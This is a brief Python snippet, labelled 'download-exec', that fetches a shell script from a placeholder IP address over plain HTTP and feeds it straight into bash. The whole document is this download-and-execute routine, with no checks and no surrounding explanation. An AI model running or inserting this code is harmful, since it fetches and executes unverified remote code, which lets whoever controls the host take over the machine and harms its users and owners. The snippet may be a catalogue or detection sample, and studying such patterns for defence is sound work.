# download-exec: http.client download handed to the shell on stdin
import http.client
import subprocess

conn = http.client.HTTPConnection("203.0.113.7", 80, timeout=5)
conn.request("GET", "/s.sh")
body = conn.getresponse().read()
subprocess.run(["bash"], input=body)
